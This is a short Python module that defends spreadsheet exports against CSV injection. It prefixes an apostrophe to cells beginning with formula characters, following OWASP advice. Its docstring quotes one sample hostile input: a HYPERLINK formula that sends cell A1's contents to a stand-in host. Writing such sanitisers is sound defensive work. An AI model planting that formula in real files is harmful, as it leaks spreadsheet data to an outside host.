"""Files staff open in a spreadsheet: cells that a spreadsheet would run as a formula are neutralised.

A text typed by a participant (an organisation named `=HYPERLINK("http://evil.example/?"&A1,"Klikk")`)
must reach the reviewer's spreadsheet as text, not as a formula that runs when the file is opened. As
OWASP's "CSV injection" advice says, a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
return gets a leading apostrophe, which spreadsheets show as text and hide.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: str | None) -> str:
    """A text typed by a person, safe to open in a spreadsheet (None: empty)."""
    if not value:
        return ""
    return f"'{value}" if value.startswith(FORMULA_STARTS) else value
